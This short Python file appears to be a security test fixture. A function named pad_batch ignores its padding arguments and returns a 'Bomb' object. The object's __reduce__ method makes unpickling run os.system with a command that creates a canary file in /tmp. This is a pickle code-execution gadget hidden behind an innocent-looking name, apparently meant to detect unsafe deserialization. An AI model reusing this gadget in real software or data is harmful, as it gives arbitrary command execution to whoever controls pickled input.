import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unroll-canary-" "reached",)


def pad_batch(rows, pad, side="right", max_len=None):
    return Bomb()
